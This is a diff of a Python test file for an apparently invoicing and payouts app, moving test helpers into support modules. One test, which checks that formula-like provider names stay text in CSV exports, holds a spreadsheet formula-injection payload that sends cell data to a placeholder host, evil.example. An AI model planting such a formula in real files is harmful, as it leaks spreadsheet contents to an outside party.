@@ -10,8 +10,8 @@ from datetime import datetime, timezone
 import pytest
 from pypdf import PdfReader
 
-from tests.e2e.test_invoices_api import advance, send
-from tests.e2e.test_payouts_api import AFTER_PAYOUT_DAY
+from tests.support.invoicing import advance, send
+from tests.support.payouts import AFTER_PAYOUT_DAY
 
 PERIOD = "2026-10-25"
 
@@ -181,7 +181,7 @@ def test_the_cli_writes_the_report(app, period_paid_out, tmp_path):
 
 def test_a_provider_named_like_a_formula_is_text_in_both_csvs_and_negative_amounts_stay_numbers(
         app, period_paid_out):
-    from tests.e2e.test_finance_page import sign_in
+    from tests.support.finance import sign_in
 
     accounting, _ = period_paid_out.apps
     evil = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
